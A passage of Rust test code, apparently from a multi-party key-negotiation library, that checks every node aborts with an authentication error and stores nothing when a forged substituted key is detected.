                let _ = crate::transport::frame::write_frame(w, &f, until, "node").await;
            }
            tokio::time::sleep(Duration::from_secs(2)).await;
        })
    });
    let handles: Vec<_> = plans
        .into_iter()
        .map(|p| {
            thread::spawn(move || {
                let mut sink = MemorySink::default();
                let r = NativeEngine.negotiate(p, &mut sink);
                (r, sink)
            })
        })
        .collect();
    let ended: Vec<_> = handles.into_iter().map(|h| h.join().unwrap()).collect();
    // Every node fails as an authentication failure (exit 8) saying why, whether it read the
    // forged key itself (then naming the researcher as the origin) or another node's abort
    // about it first; nothing is stored anywhere.
    let researcher = parties[0].id.as_str();
    let mut saw_it_itself = 0;
    for (r, sink) in &ended {
        let e = r.as_ref().unwrap_err();
        assert!(sink.stored_pairwise.is_none(), "nothing stored: {e}");
        assert_eq!(e.kind(), ErrorKind::Authentication, "{e}");
        assert!(e.to_string().contains("substituting"), "{e}");
        if e.origin().map(|o| o.party.as_str()) == Some(researcher) {
            saw_it_itself += 1;
        }
    }
    assert!(saw_it_itself >= 1);
    r.join().unwrap();
}
